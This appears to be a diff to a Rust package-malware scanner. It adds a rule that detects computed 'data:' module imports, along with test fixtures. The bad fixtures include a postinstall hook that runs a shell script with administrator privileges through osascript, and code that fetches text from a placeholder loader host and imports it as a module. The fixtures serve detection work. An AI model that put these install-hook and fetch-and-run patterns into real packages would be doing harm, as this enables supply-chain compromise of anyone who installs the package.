@@ -177,6 +177,7 @@ pub mod propagation {
 pub mod staging {
     pub mod bundled_program_started_at_install;
     pub mod chain_reply_to_code_or_address;
+    pub mod computed_data_module_loaded;
     pub mod decoded_text_evaluated;
     pub mod decoded_text_run_as_command;
     pub mod download_piped_to_interpreter;
@@ -311,6 +312,7 @@ pub static RULES: &[&dyn Rule] = &[
     &propagation::repositories_made_public::RepositoriesMadePublic,
     &staging::bundled_program_started_at_install::BundledProgramStartedAtInstall,
     &staging::chain_reply_to_code_or_address::ChainReplyToCodeOrAddress,
+    &staging::computed_data_module_loaded::ComputedDataModuleLoaded,
     &staging::decoded_text_evaluated::DecodedTextEvaluated,
     &staging::decoded_text_run_as_command::DecodedTextRunAsCommand,
     &staging::download_piped_to_interpreter::DownloadPipedToInterpreter,
@@ -3073,6 +3075,13 @@ const { spawn } = require("child_process");
 if (process.platform === "win32") spawn("wscript.exe", [__dirname + "/update.vbs"]); //~ here
 ```
 
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node install.js"}}
+== install.js
+require("child_process").execFile("osascript", ["-e", 'do shell script "sh /tmp/a.sh" with administrator privileges']); //~ here
+```
+
 ## Good
 
 ```package
@@ -4341,6 +4350,14 @@ data in code that nothing runs changes no verdict.
 {"name": "x", "version": "1.0.0", "main": "index.js"}
 == index.js
 exports.home = "https://api.stockade-selftest.invalid/v1"; //~ here
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "sh tools/run.sh"}}
+== tools/run.sh
+home=stockade-selftest.invalid #~ here
+echo "$home"
 ```
 
 ## Good
@@ -6134,6 +6151,46 @@ exports.balanceOf = async (rpc, data) => {
 ## References
 
 - Google Threat Intelligence: DPRK adopts EtherHiding (October 2025)
+"#,
+    ),
+    (
+        "computed-data-module-loaded",
+        r#"# A computed text is loaded as a module
+
+Code that runs by itself imports an address of the form `data:text/javascript,…` whose text is not in the
+package, but computed or received.
+
+## Why it matters
+
+It is `eval` under another name, and no search for `eval` or `Function` finds it.
+
+## Known benign uses
+
+Tools that transpile import what they made, when they are called. Tests for a feature import a constant.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.mjs"}
+== index.mjs
+const reply = await fetch("https://loader.invalid/a");
+await import(`data:text/javascript,${encodeURIComponent(await reply.text())}`); //~ here
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.mjs"}
+== index.mjs
+export const hasModules = await import("data:text/javascript,export default 1").then(() => true, () => false);
+export const run = (code) => import("data:text/javascript," + encodeURIComponent(code));
+```
+
+## References
+
+- Node documentation: ECMAScript modules, `data:` imports
 "#,
     ),
     (
